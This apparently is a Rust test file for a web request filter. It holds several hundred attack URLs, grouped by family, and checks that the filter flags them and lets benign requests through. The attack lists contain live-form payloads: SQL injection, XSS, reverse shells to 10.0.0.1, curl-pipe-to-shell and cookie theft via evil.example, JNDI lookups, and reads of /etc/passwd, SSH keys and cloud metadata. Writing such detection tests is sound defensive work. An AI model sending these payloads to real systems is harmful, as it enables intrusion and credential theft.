//! Own examples, attacks and honest requests, written as a person would type them; [`sent`] encodes them as a browser does.

use proptest::prelude::*;

use super::{Family, Screen, decode::squash, normalise};

/// Percent-encodes what may not stand in a target.
fn sent(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for byte in text.bytes() {
        match byte {
            b'!' | b'$'..=b';' | b'=' | b'?'..=b'Z' | b'[' | b']' | b'_' | b'a'..=b'z' | b'~' => out.push(byte),
            _ => out.extend(format!("%{byte:02X}").bytes()),
        }
    }
    out
}

const TRAVERSAL: &[&str] = &[
    "/../../etc/passwd",
    "/static/../../secret",
    "/a/..",
    "/..;/manager/html",
    "/app/..;/admin",
    "/img/..\\..\\windows\\win.ini",
    "/static../settings.py",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/%252e%252e%252fetc",
    "/..%c0%af..%c0%afetc",
    "/%c0%ae%c0%ae/x",
    "/%uff0e%uff0e/x",
    "/..%255c..%255cx",
    "/....//....//x",
    "/x/.../y",
    "/%ef%bc%8e%ef%bc%8e/x",
    "/%e0%80%ae%e0%80%ae/x",
    "/files/%2e%2e;name/x",
];

const HIDDEN: &[&str] = &[
    "/.git/config",
    "/.git/HEAD",
    "/app/.git/index",
    "/.svn/entries",
    "/.hg/store",
    "/.env",
    "/.env.production",
    "/api/.env",
    "/.htaccess",
    "/.htpasswd",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/.dockerenv",
    "/%2egit/config",
    "/%252eenv",
    "/wp-config.php~",
    "/config.php.bak",
    "/settings.py.old",
    "/db.sql",
    "/data.sqlite3",
    "/index.html.swp",
    "/web.config",
    "/WEB-INF/web.xml",
    "/META-INF/context.xml",
    "/id_rsa",
    "/etc/passwd",
];

const EXTENSION: &[&str] = &[
    "/index.php",
    "/wp-login.php",
    "/wp-admin/admin-ajax.php?action=x",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php/path/info",
    "/shell.PHP",
    "/shell.php.jpg",
    "/shell.phtml",
    "/x.php5",
    "/default.asp",
    "/login.aspx",
    "/service.asmx?wsdl",
    "/upload.ashx",
    "/x.asp::$DATA",
    "/index.jsp",
    "/index.jsp;jsessionid=1",
    "/x.jspx",
    "/test.cgi",
    "/cgi-bin/test",
    "/cgi-bin/luci",
    "/admin.cfm",
    "/index.shtml",
    "/%69ndex.%70hp",
    "/x.php%20",
    "/x.php.",
];

const SQL: &[&str] = &[
    "/item?id=1' or '1'='1",
    "/item?id=1' or 1=1--",
    "/item?id=1 or 1=1",
    "/item?id=1) or (1=1",
    "/item?id=1' or 'x'='x",
    "/item?id=1\" or \"a\"=\"a",
    "/item?id=1' or ''='",
    "/item?id=' or 1=1 limit 1 -- -",
    "/login?user=admin'--",
    "/login?user=admin' #",
    "/login?user=admin'/*",
    "/login?user=admin') -- ",
    "/login?user=' or true--",
    "/login?user='||'1'='1",
    "/item?id=1 and 1=2",
    "/item?id=1 and 1=1 union select 1,2,3",
    "/item?id=-1 union select 1,2,3",
    "/item?id=-1 union all select null,null,null--",
    "/item?id=1/**/union/**/select/**/1,2",
    "/item?id=1/*!50000union*//*!50000select*/1",
    "/item?id=1 uNiOn aLl sElEcT 1,version()",
    "/item?id=1+union+select+user,password+from+users",
    "/item?id=' union select username,password from users--",
    "/item?id=1%0aunion%0aselect%0a1",
    "/item?id=1%09and%091=1",
    "/item?id=(1)union(select(1),2)",
    "/item?id=1;drop table users",
    "/item?id=1'; drop table users--",
    "/item?id=1; insert into users values (1)",
    "/item?id=1; update users set admin=1",
    "/item?id=1; delete from users",
    "/item?id=1; exec xp_cmdshell('dir')",
    "/item?id=1'; exec master..xp_cmdshell 'dir'--",
    "/item?id=1; shutdown--",
    "/item?id=1'; waitfor delay '0:0:5'--",
    "/item?id=1 waitfor delay '0:0:5'",
    "/item?id=1' and sleep(5)--",
    "/item?id=1 and sleep(5)",
    "/item?id=1' and (select 1 from (select(sleep(5)))a)--",
    "/item?id=1 or benchmark(10000000,md5(1))",
    "/item?id=1'||pg_sleep(5)--",
    "/item?id=1;select pg_sleep(5)",
    "/item?id=1 order by 10--",
    "/item?id=1' order by 3#",
    "/item?id=1 group by 1,2 having 1=1",
    "/item?id=1' having 1=1--",
    "/item?id=1' and substring(user(),1,1)='a",
    "/item?id=1' and ascii(substr((select database()),1,1))>64--",
    "/item?id=1 and (select count(*) from information_schema.tables)>0",
    "/item?id=1 and extractvalue(1,concat(0x7e,version()))",
    "/item?id=1 and updatexml(1,concat(0x7e,user()),1)",
    "/item?id=1 into outfile '/var/www/x'",
    "/item?id=1 union select load_file('/etc/passwd')",
    "/item?id=1' and 1=convert(int,@@version)--",
    "/item?id=1 and 1=cast((select version()) as int)",
    "/item?id=1 procedure analyse(1)",
    "/item?id=1'='1",
    "/item?id=1' like '1",
    "/item?id=1 or 2>1",
    "/item?id=1 or not 1=2",
    "/item?id=1' and password is not null--",
    "/item?id=1' or username like 'a%",
    "/item?id=1' or exists(select 1)--",
    "/item?id=1 and if(1=1,sleep(3),0)",
    "/item?id=1' rlike sleep(3)--",
    "/item?id=case when 1=1 then 1 else (select 1 from dual) end",
    "/item?id=1 and case when 1=1 then 1 else 0 end",
    "/item?id=1 union select sql from sqlite_master",
    "/item?id=1%2527%2520or%25201%253d1--",
    "/item?id=1%EF%BC%87 or 1=1--",
    "/item/1' or '1'='1",
    "/item?id=1 || 1=1",
    "/item?id=1 && 1=1",
    "/item?user[$ne]=&pass[$ne]=",
    "/item?user[$regex]=.*",
    "/item?q={\"$where\":\"sleep(1)\"}",
    "/item?user=*)(uid=*",
    "/item?user=admin)(|(password=*)",
];

const SCRIPT: &[&str] = &[
    "/?q=<script>alert(1)</script>",
    "/?q=<ScRiPt>alert(1)</sCrIpT>",
    "/?q=<script src=//evil.example/x.js></script>",
    "/?q=\"><script>alert(1)</script>",
    "/?q=<script/x>alert(1)</script>",
    "/?q=<scr<script>ipt>alert(1)</scr</script>ipt>",
    "/?q=%253Cscript%253Ealert(1)",
    "/?q=%u003cscript%u003ealert(1)",
    "/?q=\\u003cscript\\u003ealert(1)",
    "/?q=&lt;script&gt;alert(1)",
    "/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
    "/?q=<img src=x onerror=alert(1)>",
    "/?q=<img/src=x/onerror=alert(1)>",
    "/?q=<img src=x onerror=alert`1`",
    "/?q=<svg onload=alert(1)>",
    "/?q=<svg/onload=alert(1)//",
    "/?q=<body onload=alert(1)>",
    "/?q=<details open ontoggle=alert(1)>",
    "/?q=<input autofocus onfocus=alert(1)>",
    "/?q=<video><source onerror=alert(1)>",
    "/?q=<x onclick=alert(1)>a",
    "/?q=<a href=javascript:alert(1)>x</a>",
    "/?q=<a href=\"java\tscript:alert(1)\">x</a>",
    "/?q=<a href='&#106;avascript:alert(1)'>x</a>",
    "/?q=<iframe src=javascript:alert(1)>",
    "/?q=<iframe src=//evil.example>",
    "/?q=<iframe srcdoc='x'>",
    "/?q=<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "/?q=<embed src=//evil.example/x.swf>",
    "/?q=<base href=//evil.example/>",
    "/?q=<meta http-equiv=refresh content='0;url=//evil.example'>",
    "/?q=<link rel=stylesheet href=//evil.example>",
    "/?q=<style>@import '//evil.example'</style>",
    "/?q=<div style=width:expression(alert(1))>",
    "/?q=<math href=javascript:alert(1)>x",
    "/?q=<form action=javascript:alert(1)>",
    "/?q=<svg><animate onbegin=alert(1)>",
    "/?q=\" onmouseover=alert(1) x=\"",
    "/?q=' onfocus='alert(1)' autofocus='",
    "/?q=\" autofocus onfocus=alert(document.domain)//",
    "/?q=x onerror=alert(1)",
    "/?q=';alert(1)//",
    "/?q=\"-alert(1)-\"",
    "/?q='+alert(1)+'",
    "/?q=\");alert(1);//",
    "/?q=';document.location='//evil.example/'+document.cookie//",
    "/?q=fetch(document.cookie)",
    "/?q=eval(atob('YWxlcnQoMSk='))",
    "/?q=String.fromCharCode(88,83,83)",
    "/?url=javascript:alert(1)",
    "/?url=JaVaScRiPt:alert(document.cookie)",
    "/?url=javascript://%0aalert(1)",
    "/?url=vbscript:msgbox(1)",
    "/?url=data:text/html,<b>x",
    "/?q=';top['al'+'ert'](1)//",
    "/?q=<!--#exec cmd=\"id\"-->",
    "/?q=<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "/<script>alert(1)</script>",
];

const COMMAND: &[&str] = &[
    "/?host=127.0.0.1;cat /etc/passwd",
    "/?host=127.0.0.1|cat /etc/passwd",
    "/?host=127.0.0.1%26%26whoami",
    "/?host=127.0.0.1||id",
    "/?host=;ls -la",
    "/?host=|ls",
    "/?host=`whoami`",
    "/?host=$(whoami)",
    "/?host=$(sleep 5)",
    "/?host=x;sleep 10",
    "/?host=x%0acat /etc/passwd",
    "/?host=x;wget http://evil.example/x.sh",
    "/?host=x;curl -s http://evil.example|sh",
    "/?host=x;nc -e /bin/sh 10.0.0.1 4444",
    "/?host=x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "/?host=x;cat${IFS}/etc/passwd",
    "/?host=x;python3 -c 'import os'",
    "/?host=x|ping -c 10 127.0.0.1",
    "/?host=x%26ping -n 10 127.0.0.1",
    "/?x=() { :;}; /bin/bash -c id",
    "/?x=powershell -enc SQBFAFgA",
    "/?x=cmd.exe /c dir",
    "/?x=;system('id')",
    "/?x=phpinfo()",
    "/?x=<?php system($_GET['c']); ?>",
    "/?x=__import__('os').system('id')",
    "/?x=require('child_process').exec('id')",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=%25{x}",
    "/?x=java.lang.Runtime.getRuntime().exec('id')",
    "/?x=O:8:\"stdClass\":1:{s:1:\"a\";}",
    "/?x=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA/w",
];

const TEMPLATE: &[&str] = &[
    "/?x=${jndi:ldap://evil.example/a}",
    "/?x=${${lower:j}ndi:ldap://evil.example/a}",
    "/?x=${${::-j}${::-n}di:rmi://evil.example/a}",
    "/${jndi:dns://evil.example}",
    "/?x={{7*7}}",
    "/?x=${7*7}",
    "/?x=#{7*7}",
    "/?x=<%= 7*7 %>",
    "/?x={{config.items()}}",
    "/?x={{''.__class__.__mro__[1].__subclasses__()}}",
    "/?x={{constructor.constructor('alert(1)')()}}",
    "/?x={{request.application}}",
    "/?x=${T(java.lang.Runtime).getRuntime().exec('id')}",
    "/?x=%25{(#_='multipart/form-data')}",
    "/?x={%25 import os %25}",
    "/?__proto__[admin]=1",
    "/?constructor[prototype][admin]=1",
];

const INCLUSION: &[&str] = &[
    "/?file=../../../../etc/passwd",
    "/?file=../../config.py",
    "/?file=..%2f..%2f..%2fetc%2fpasswd",
    "/?file=....//....//....//etc/passwd",
    "/?file=..%252f..%252f..%252fetc%252fpasswd",
    "/?file=..\\..\\..\\windows\\win.ini",
    "/?file=/etc/passwd",
    "/?file=/etc/shadow",
    "/?file=/proc/self/environ",
    "/?file=c:\\windows\\system32\\drivers\\etc\\hosts",
    "/?file=file:///etc/passwd",
    "/?file=php://filter/convert.base64-encode/resource=index",
    "/?file=php://input",
    "/?file=expect://id",
    "/?file=phar://x.phar",
    "/?file=gopher://127.0.0.1:6379/_x",
    "/?file=.env",
    "/?file=../.git/config",
    "/?file=/var/log/nginx/access.log",
    "/?url=http://169.254.169.254/latest/meta-data/",
    "/?page=http://evil.example/shell.txt?",
];

const SPLITTING: &[&str] = &[
    "/?next=x%0d%0aSet-Cookie:a=b",
    "/?next=x%0aLocation: //evil.example",
    "/?next=x%250d%250aContent-Length:0",
    "/?next=%0d%0a%0d%0a<html>x",
    "/?next=%E5%98%8A%0d%0aX-Injected: 1",
    "/a%0d%0aSet-Cookie:x=y",
    "/?h=%0d%0aHTTP/1.1 200 OK",
];

const NULL: &[&str] = &["/index.html%00.jpg", "/?file=x%00.png", "/?file=x%2500", "/%00"];

/// Every family with its examples.
const ATTACKS: [(Family, &[&str]); 10] = [
    (Family::Traversal, TRAVERSAL),
    (Family::DotFile, HIDDEN),
    (Family::Extension, EXTENSION),
    (Family::Sql, SQL),
    (Family::Xss, SCRIPT),
    (Family::Command, COMMAND),
    (Family::Template, TEMPLATE),
    (Family::Inclusion, INCLUSION),
    (Family::Splitting, SPLITTING),
    (Family::Splitting, NULL),
];

const HONEST: &[&str] = &[
    // addresses
    "/",
    "/index.html",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/.well-known/acme-challenge/abc-DEF_123",
    "/.well-known/security.txt",
    "/assets/app.3f9c2b1a.js",
    "/assets/app.min.css?v=1.2.3",
    "/static/fonts/inter-v12-latin.woff2",
    "/img/photo (1).jpg",
    "/img/photo@2x.png",
    "/downloads/tool-v1.2.3.tar.gz",
    "/downloads/setup.exe",
    "/install.sh",
    "/api/v1/users/42/orders/7",
    "/api/v2.1/items",
    "/api/projects/group%2Fproject/issues",
    "/users/john.doe",
    "/users/mario.pl",
    "/~alice/",
    "/@alice/posts",
    "/wiki/C++",
    "/wiki/Rock_'n'_roll",
    "/wiki/O'Reilly_Media",
    "/wiki/AT&T",
    "/wiki/Caf%C3%A9_(Paris)",
    "/wiki/Talk:Main_Page",
    "/wiki/50%25_rule",
    "/wiki/Wait...",
    "/blog/drop-in-union-guide",
    "/blog/select-all-and-delete",
    "/blog/how-to-drop-table-legs",
    "/blog/script-writing-101",
    "/blog/2024/05/php-vs-python",
    "/docs/passwd",
    "/docs/etc/hosts-file",
    "/products;color=red;size=xl",
    "/matrix;a=1;b=2/x",
    "/map/@45.4642,9.1900,12z",
    "/s/日本語のページ",
    "/straße/über-uns",
    "/shop/t-shirt--blue",
    "/select-your-plan?sort=updated--desc;x",
    // searches
    "/search?q=drop-in union guide",
    "/search?q=red shoes",
    "/search?q=red+shoes+size+42",
    "/search?q=O'Brien",
    "/search?q=it's a dog's life",
    "/search?q=rock 'n' roll",
    "/search?q='90s music and '80s films",
    "/search?q=the boys' and girls' room",
    "/search?q=\"exact phrase\" and another",
    "/search?q='foo' or 'bar'",
    "/search?q=1 or 2 apples",
    "/search?q=5 and 10 dollar notes",
    "/search?q=select committee on europe",
    "/search?q=european union select committee",
    "/search?q=union square hotel",
    "/search?q=credit union select account",
    "/search?q=how to select from a menu",
    "/search?q=select * from users where id = 1",
    "/search?q=sql union vs union all",
    "/search?q=how does drop table work in mysql",
    "/search?q=insert into table values explained",
    "/search?q=update your profile set a picture",
    "/search?q=delete from cart",
    "/search?q=order by phone",
    "/search?q=group by taxi",
    "/search?q=what is xp_cmdshell",
    "/search?q=python time.sleep(5) not working",
    "/search?q=c# vs c++",
    "/search?q=c#",
    "/search?q=a -- b",
    "/search?q=foo--bar",
    "/search?q=git commit --amend",
    "/search?q=git '--amend' flag",
    "/search?q=100% cotton",
    "/search?q=50% off & free shipping",
    "/search?q=price < 100",
    "/search?q=price > 100 and size < 5",
    "/search?q=a=b",
    "/search?q=x = y or z",
    "/search?q=2+2=4",
    "/search?q=if a<b and c>d",
    "/search?q=<3 love",
    "/search?q=i <3 you",
    "/search?q=html <b>bold</b> tag",
    "/search?q=<div class=\"box\">",
    "/search?q=javascript: the good parts",
    "/search?q=JavaScript: The Definitive Guide (7th edition)",
    "/search?q=online=yes",
    "/search?q=on click = buy",
    "/search?q=document.cookie explained",
    "/search?q=java.lang.NullPointerException at main",
    "/search?q=alert system for windows",
    "/search?q=eval in python",
    "/search?q=what does cat /etc do",
    "/search?q=what is /etc/passwd",
    "/search?q=ls command; cat command",
    "/search?q=dogs;cats",
    "/search?q=cats|dogs",
    "/search?q=salt & pepper",
    "/search?q=mind (the) gap",
    "/search?q=tom & jerry; the movie",
    "/search?q=who am i",
    "/search?q=$100 bills",
    "/search?q=€50 voucher",
    "/search?q=price $(usd)",
    "/search?q={json}",
    "/search?q={{name}}",
    "/search?q=[draft] report",
    "/search?q=a/b testing",
    "/search?q=and/or",
    "/search?q=`code`",
    "/search?q=¿qué es esto?",
    "/search?q=検索（テスト）",
    "/search?q=Привет, мир",
    "/search?q=emoji 😀",
    "/search?q=....",
    "/search?q=wait... what?",
    "/search?q=5'10\" tall",
    "/search?q=12\" vinyl",
    "/search?q=l'amour, c'est d'abord l'écoute",
    "/search?q=dell'arte o dell'amore",
    "/search?q=don't or won't",
    // parameters
    "/edit?code=if(a<b)",
    "/edit?code=if(a<b){return c;}",
    "/edit?code=for(let i=0;i<10;i++)",
    "/edit?code=const f = (x) => x * 2;",
    "/edit?code=print(\"hello\")",
    "/edit?code=SELECT name, age FROM people ORDER BY age",
    "/people?name=O'Brien",
    "/people?name=D'Angelo&city=L'Aquila",
    "/people?name=Müller-Lüdenscheid",
    "/people?email=john+tag@example.com",
    "/login?next=/account/settings",
    "/login?next=%2Faccount%2Fsettings%3Ftab%3D1",
    "/login?next=/a/../b",
    "/login?next=../b",
    "/wiki?page=docs/../img/logo.png",
    "/oauth?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb%3Fx%3D1&scope=openid%20email&state=aGVsbG8%3D",
    "/oauth?redirect=https%253A%252F%252Fa.example%252Fb%253Fnext%253D%25252Fhome",
    "/share?url=https://example.com/a/b.html?x=1&text=Look at this!",
    "/img?src=https://cdn.example.com/a.jpg&w=300",
    "/list?sort=-created,name&page=2&per_page=50",
    "/list?filter[status]=open&filter[tags][]=a&filter[tags][]=b",
    "/list?price[gte]=10&price[lte]=20",
    "/list?ids=1,2,3,4",
    "/list?fields=id,name,email",
    "/list?fields=name;id",
    "/list?tags=a|b|c",
    "/list?where={\"age\":{\"gt\":5}}",
    "/odata/Products?$filter=Name eq 'Milk' and Price lt 10&$top=5",
    "/odata/Products?$select=Name,Price&$orderby=Price desc",
    "/jira?jql=project = \"ABC\" and status = \"Open\" order by created desc",
    "/graphql?query={user(id:1){name}}",
    "/report?from=2024-01-01&to=2024-12-31",
    "/report?at=2024-05-01T10:30:00+02:00",
    "/report?range=1-10",
    "/geo?bbox=-12.5,41.2,18.9,47.1",
    "/geo?q=45°27'51\"N 9°11'22\"E",
    "/t?utm_source=news&utm_medium=e-mail&utm_campaign=50%25+off!",
    "/t?gclid=EAIaIQobChMI_v-x--8Ab",
    "/t?sig=MEUCIQDx%2Fa%2Bb%3D%3D&exp=1700000000",
    "/t?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "/t?data=aGVsbG8gd29ybGQ=;base64",
    "/t?color=%23ff0000",
    "/t?note=line one%0D%0Aline two%0D%0Aline three",
    "/t?note=to do:%0D%0A- milk%0D%0A- bread",
    "/t?path=C:\\Users\\anna\\file.txt",
    "/t?path=/home/anna/file.txt",
    "/t?regex=^[a-z]+$",
    "/t?math=(1+2)*3-4/5",
    "/t?expr=a>b&&c<d",
    "/t?cb=jQuery341_1700000000",
    "/t?callback=app.done",
    "/t?a=1&b=2;c=3",
    "/t?a=&b=&c",
    "/t?=",
    "/t?a[]=1&a[]=2",
    "/t?x=%E2%80%9Cquoted%E2%80%9D",
    "/t?x=%F0%9F%98%80",
    "/t?q=%",
    "/t?q=%zz",
    "/t?user__name__icontains=ann",
    "/t?q=class of 1999",
    "/t?version=>=1.2.0 <2.0.0",
    "/t?range=~1.2 || ^2.0",
    "/t?cron=*/5 * * * *",
    "/t?glob=src/**/*.js",
    "/t?glob='/*.js'",
    "/t?comment=/* todo */",
    "/t?msg=Hello; how are you -- fine?",
    "/t?msg=see (select items from our range)",
    "/t?msg=please update me and set a date; delete from list later",
    "/t?note=Date: 5 May%0D%0ALocation: Rome%0D%0ATo: Anna%0D%0AStatus: open",
    "/t?regex=\\d\\d\\d-\\w+",
    "/2024---a-recap",
    "/t?msg=10 -- perfect!",
    "/t?q=Array.prototype.map",
    "/t?q=a quote from mysql. the docs",
    "/t?q=how to edit /etc/hosts",
    "/t?q=where is /var/log/nginx/error.log",
    "/t?q=length(name)",
    "/t?title=Ctrl+Alt+Del; or: how I learned",
    "/t?title=Q&A: \"Why?\" and 'How?'",
    "/t?formula==SUM(A1:A5)",
    "/t?css=a{color:red;margin:0 auto}",
    "/t?link=<https://example.com/page>; rel=\"next\"",
];

#[test]
fn attacks_are_known_by_their_family() {
    let screen = Screen::new();
    let mut missed = Vec::new();
    let mut other = Vec::new();
    let mut all = 0;
    for (family, attacks) in ATTACKS {
        for attack in attacks {
            all += 1;
            match screen.judge(&sent(attack), &[]) {
                None => missed.push(*attack),
                Some(hit) if hit != family => other.push((*attack, hit)),
                Some(_) => {}
            }
        }
    }
    assert!(all >= 150, "{all} examples");
    assert!(missed.is_empty(), "{} of {all} missed: {missed:#?}\nby another family: {other:?}", missed.len());
    // An attack may belong to two families; most are told by their own.
    assert!(other.len() * 10 <= all, "{other:#?}");
}

#[test]
fn honest_requests_pass() {
    let screen = Screen::new();
    let refused: Vec<_> = HONEST.iter().filter_map(|honest| Some((*honest, explain(&screen, &sent(honest))?))).collect();
    assert!(HONEST.len() >= 150, "{} examples", HONEST.len());
    assert!(refused.is_empty(), "{} of {} refused: {refused:#?}", refused.len(), HONEST.len());
}

/// The family and the patterns that recognised an honest request, for the message of a failed test.
fn explain(screen: &Screen, target: &[u8]) -> Option<(Family, String)> {
    let hit = screen.judge(target, &[])?;
    let text = squash(&normalise(target));
    let patterns = screen.sets.iter().flat_map(|set| {
        set.regexes.matches(&text).iter().map(|at| set.regexes.patterns()[at].chars().take(80).collect::<String>()).collect::<Vec<_>>()
    });
    Some((hit, patterns.collect::<Vec<_>>().join("\n")))
}

/// One more layer of encoding on a byte, chosen by `dice`.
fn encode(byte: u8, dice: u8, out: &mut Vec<u8>) {
    match dice % 8 {
        0 => out.extend(format!("%{byte:02x}").bytes()),
        1 => out.extend(format!("%{byte:02X}").bytes()),
        2 => out.extend(format!("%25{byte:02x}").bytes()),
        3 => out.extend(format!("%u00{byte:02x}").bytes()),
        4 => out.extend(format!("%25%32%35{byte:02X}").bytes()),
        5 if byte.is_ascii_graphic() => out.extend(format!("%c{:x}%{:02x}", byte >> 6, 0x80 | byte & 0x3f).bytes()),
        6 if byte.is_ascii_alphabetic() => out.push(byte ^ 0x20),
        5..=7 => out.push(byte),
        _ => unreachable!("a remainder of 8"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn encoding_an_attack_again_does_not_hide_it(
        family in 0..ATTACKS.len(),
        which in any::<prop::sample::Index>(),
        dice in prop::collection::vec(any::<u8>(), 200),
    ) {
        static SCREEN: std::sync::LazyLock<Screen> = std::sync::LazyLock::new(Screen::new);
        let attacks = ATTACKS[family].1;
        let attack = sent(attacks[which.index(attacks.len())]);
        let mut again = Vec::new();
        let mut query = false;
        for (at, byte) in attack.iter().enumerate() {
            // What divides the target is not part of the attack: encoded it would be another request.
            let divides = at == 0 || (*byte == b'?' && !query) || (query && matches!(byte, b'&' | b'='));
            query |= *byte == b'?';
            // `+` is a space only while it is not encoded; an escape is left whole or taken apart, both must do.
            if divides || *byte == b'+' || !byte.is_ascii() { again.push(*byte) } else { encode(*byte, dice[at % dice.len()], &mut again) }
        }
        prop_assert!(SCREEN.judge(&again, &[]).is_some(), "{}", String::from_utf8_lossy(&again));
    }

    #[test]
    fn no_input_makes_the_screen_panic(target in prop::collection::vec(any::<u8>(), 0..300)) {
        static SCREEN: std::sync::LazyLock<Screen> = std::sync::LazyLock::new(Screen::new);
        let _ = SCREEN.judge(&target, &[]);
    }

    #[test]
    fn what_is_plain_is_judged_as_its_normal_form_would_be(target in "/[a-zA-Z0-9._~,@/-]{0,30}(\\?([a-z0-9._=&-]|__proto__|classloader|=ro0ab|=wp-config.php|=id_rsa|constructor.prototype.x|ognl.x|@java.lang|=.env|union|select|or|--|script){0,30})?") {
        static SCREEN: std::sync::LazyLock<Screen> = std::sync::LazyLock::new(Screen::new);
        let fast = SCREEN.judge(target.as_bytes(), &[]);
        // One escape sends it the slow way.
        let slow = SCREEN.judge(target.replacen('/', "/%61", 1).replacen("/%61", "%2f", 1).as_bytes(), &[]);
        prop_assert_eq!(fast.is_some(), slow.is_some());
    }
}

#[test]
fn scanners_are_known_and_browsers_are_not() {
    for agent in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "gobuster/3.1.0",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "DirBuster-1.0-RC1",
        "${jndi:ldap://x}",
    ] {
        assert!(super::scanner(agent.as_bytes()), "{agent}");
    }
    for agent in [
        "",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/2.0",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "UptimeRobot/2.0",
        "okhttp/4.12.0",
        "Wget/1.21.4",
    ] {
        assert!(!super::scanner(agent.as_bytes()), "{agent}");
    }
}

#[test]
fn ordinary_methods_pass_and_others_do_not() {
    for name in ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"] {
        assert!(!super::bad_method(&name.parse().expect("a method")), "{name}");
    }
    for name in ["TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "get", "FOO"] {
        assert!(super::bad_method(&name.parse().expect("a method")), "{name}");
    }
}
